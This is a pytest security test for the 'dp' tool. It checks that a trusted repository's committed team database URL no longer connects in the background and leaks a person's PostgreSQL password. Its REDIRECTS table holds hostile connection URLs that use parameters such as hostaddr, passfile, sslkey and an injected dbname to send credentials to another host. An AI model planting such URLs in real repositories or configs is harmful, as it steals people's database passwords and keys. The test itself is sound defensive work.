"""Issue 46, finding 8: a trusted repository chose where a person's credentials go.

A committed ``.dp/rules.toml`` may say ``[team] url = "postgresql://…"``. Once the
person trusted the file (for its aliases), every session start in that repository
connected to that URL in the background — no ``dp team connect`` ever run — and
libpq handed it the person's ``PGPASSWORD``; through ``?hostaddr=ATTACKER``, a URL
naming the person's real database host handed over that host's ``~/.pgpass``
password. Now the URL is a suggestion that ``dp team connect`` takes when the person
runs it, and a URL whose parameters pick another host or other credentials than it
names is refused.

The evidence is a PostgreSQL impostor (``impostor.py``): a plain TCP listener on
127.0.0.1 that records each connection and the password it is handed. The session
starts through the SessionStart hook exactly as ``dp pave --hook`` installed it in
Claude Code's settings (its command, run by a shell with the client's JSON on stdin,
in the repository), and the test waits for every process that start left behind.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from capture_support import failure, run_capture

from security.impostor import Impostor
from security.repository import GIT_IDENTITY, cloned_repository

BIN = Path(sys.executable).parent
PASSWORD = "the-persons-own-pgpassword"
# The team's corrections (a tool-name alias the person reviewed and trusts) and its suggested database.
RULES = '[[aliases]]\nfrom = "read_file"\nto = "Read"\n\n[team]\nurl = "{url}"\n'


@pytest.fixture
def impostor():
    found = Impostor()
    yield found
    found.close()


def person(tmp_path: Path, **extra) -> dict:
    """A person's environment: a HOME of their own, Claude Code, and a team password in PGPASSWORD."""
    home = tmp_path / "home"
    (home / ".dp").mkdir(parents=True, exist_ok=True)
    fake_claude = home / "bin" / "claude"
    fake_claude.parent.mkdir(exist_ok=True)
    fake_claude.write_text("#!/bin/sh\necho '2.1.330 (Claude Code)'\n")
    fake_claude.chmod(0o755)
    env = {key: value for key, value in os.environ.items() if not key.startswith(("DP_", "CLAUDE", "GIT_", "PG"))}
    env.update({"HOME": str(home), "XDG_CACHE_HOME": str(home / ".cache"), "DP_CLAUDE": str(fake_claude),
                **GIT_IDENTITY, **extra})
    return env


def dp(env: dict, *args, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN / "dp"), *map(str, args)], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=120)


def start_session(env: dict, repo: Path) -> None:
    """Every SessionStart hook the settings hold, run as Claude Code runs it: its command through a
    shell, the client's JSON on stdin, in the repository; then wait for what it left running."""
    settings = json.loads((Path(env["HOME"]) / ".claude" / "settings.json").read_text())
    commands = [hook["command"] for entry in settings["hooks"]["SessionStart"] for hook in entry["hooks"]]
    assert commands
    payload = {"session_id": "next", "transcript_path": str(Path(env["HOME"]) / "t.jsonl"), "cwd": str(repo),
               "hook_event_name": "SessionStart", "source": "startup"}
    for command in commands:
        proc = subprocess.run(["sh", "-c", command], input=json.dumps(payload), cwd=repo, env=env,
                              capture_output=True, text=True, timeout=60)
        assert proc.returncode == 0, proc.stderr
    store = str(Path(env["HOME"]) / ".dp" / "dp.db").encode()
    deadline = time.monotonic() + 180  # a bound on the detached sync's own two minutes, not a measurement
    while background_syncs(store):
        assert time.monotonic() < deadline, "the session start's team sync did not end"
        time.sleep(0.1)


def background_syncs(store: bytes) -> list[int]:
    """The pids of the detached team syncs of ``store`` still running (``dp.team.background``)."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            argv = Path("/proc", entry, "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if store in argv and any(b"dp.team.background" in word for word in argv):
            found.append(int(entry))
    return found


def test_a_trusted_repositorys_team_url_gets_no_connection_the_person_did_not_ask_for(tmp_path, markers, impostor):
    own = Impostor()  # the team database the person connected themselves
    try:
        env = person(tmp_path, PGPASSWORD=PASSWORD)
        suggested = f"postgresql://mallory@127.0.0.1:{impostor.port}/loot"
        repo = cloned_repository(tmp_path / "widget", {".dp/rules.toml": RULES.format(url=suggested)}, markers)
        assert dp(env, "pave", "--hook", cwd=tmp_path).returncode == 0
        trusted = dp(env, "trust", cwd=repo)  # the person reviewed the aliases and trusts the file
        assert trusted.returncode == 0, trusted.stderr
        captured = run_capture(failure("git comit -m 'fix'", error="Exit code 1\ngit: 'comit' is not a git command.",
                                       session="first", cwd=str(repo / "src")), env=env)
        assert captured.returncode == 0, captured.stderr

        start_session(env, repo)  # no team state yet: nothing may start
        assert impostor.connections == [], impostor.connections
        connected = dp(env, "team", "connect", f"postgresql://me@127.0.0.1:{own.port}/ours", cwd=tmp_path)
        assert connected.returncode == 0, connected.stderr
        start_session(env, repo)  # now a background sync runs: to the person's database only
        for args in (("team", "sync"), ("team", "sync", "--dry-run"), ("team", "status"), ("team", "migrate"),
                     ("paths", "--team"), ("desires", "--team"), ("suggest", "--team"), ("doctor",)):
            proc = dp(env, *args, cwd=repo / "src")
            assert "Traceback" not in proc.stderr, (args, proc.stderr)
        assert impostor.connections == [], impostor.connections
        assert own.connections and all(seen.get("database") == "ours" for seen in own.connections)
        status = dp(env, "team", "status", cwd=repo)
        assert f"this repository suggests the team database {suggested}" in status.stderr
        assert "dp team connect" in status.stderr

        # The person takes the suggestion by running dp team connect there: only then does it connect.
        taken = dp(env, "team", "connect", cwd=repo)
        assert taken.returncode == 0, taken.stderr
        assert [(seen["user"], seen["database"], seen["password"]) for seen in impostor.connections] == [
            ("mallory", "loot", PASSWORD)]
    finally:
        own.close()
    markers.assert_none("the team sync")


REDIRECTS = {
    "hostaddr": "postgresql://alice@db.example.com:{port}/dp?hostaddr=127.0.0.1",
    "host": "postgresql://alice@db.example.com:{port}/dp?host=127.0.0.1",
    "passfile": "postgresql://alice@127.0.0.1:{port}/dp?passfile={other_pgpass}",
    "service": "postgresql://alice@db.example.com/dp?service=elsewhere",
    "servicefile": "postgresql://alice@db.example.com/dp?servicefile={service_file}&service=elsewhere",
    "sslcert": "postgresql://alice@127.0.0.1:{port}/dp?sslcert={home}/.ssh/id.crt&sslmode=prefer",
    "sslkey": "postgresql://alice@127.0.0.1:{port}/dp?sslkey={home}/.ssh/id_ed25519",
    "gssdelegation": "postgresql://alice@127.0.0.1:{port}/dp?gssdelegation=1",
    "dbname": "postgresql://alice@db.example.com:{port}/dp?dbname=host%3D127.0.0.1%20port%3D{port}",
    "password": "postgresql://alice@127.0.0.1:{port}/dp?password=x",
    "sslpassword": "postgresql://alice@127.0.0.1:{port}/dp?sslpassword=x",
}


def test_a_team_url_that_redirects_the_host_or_the_credentials_is_refused(tmp_path, markers, impostor):
    env = person(tmp_path)  # no PGPASSWORD: the passwords are in ~/.pgpass, per host
    home = Path(env["HOME"])
    pgpass = home / ".pgpass"
    pgpass.write_text(f"db.example.com:{impostor.port}:dp:alice:secret-of-the-real-database-host\n"
                      "db.example.com:5432:dp:alice:secret-of-the-real-database-host\n")
    pgpass.chmod(0o600)
    other_pgpass = tmp_path / "planted.pgpass"
    other_pgpass.write_text("*:*:*:*:secret-from-a-file-the-url-chose\n")
    other_pgpass.chmod(0o600)
    service_file = tmp_path / "pg_service.conf"
    service_file.write_text(f"[elsewhere]\nhost=127.0.0.1\nport={impostor.port}\ndbname=dp\n")
    (home / ".pg_service.conf").write_text(service_file.read_text())
    values = {"port": impostor.port, "other_pgpass": other_pgpass, "service_file": service_file, "home": home}
    for name, template in REDIRECTS.items():
        url = template.format(**values)
        proc = dp(env, "team", "connect", url, cwd=tmp_path)
        assert proc.returncode == 1 and proc.stdout == "" and proc.stderr.count("\n") == 1, (name, proc.stderr)
        assert proc.stderr.startswith("dp: error: the URL") and "Traceback" not in proc.stderr, (name, proc.stderr)
        assert not (home / ".dp" / "team.json").exists(), name
    # The same URL committed in a trusted repository: refused when the person runs dp team connect there.
    repo = cloned_repository(tmp_path / "widget", {".dp/rules.toml": RULES.format(url=REDIRECTS["hostaddr"].format(
        **values))}, markers)
    assert dp(env, "trust", cwd=repo).returncode == 0
    taken = dp(env, "team", "connect", cwd=repo)
    assert taken.returncode == 1 and taken.stderr.count("\n") == 1 and "hostaddr=" in taken.stderr, taken.stderr
    status = dp(env, "team", "status", cwd=repo)  # the repository's bad URL breaks none of the person's commands
    assert status.returncode == 0 and "suggests a team database dp refuses" in status.stderr, status.stderr
    assert impostor.connections == [], impostor.connections
    # What people legitimately write still connects (to the host it names: here, the impostor).
    plain = f"postgresql://alice@127.0.0.1:{impostor.port}/dp?sslmode=prefer&connect_timeout=5&application_name=ci"
    assert dp(env, "team", "connect", plain, cwd=tmp_path).returncode == 0
    assert [seen["database"] for seen in impostor.connections] == ["dp"]
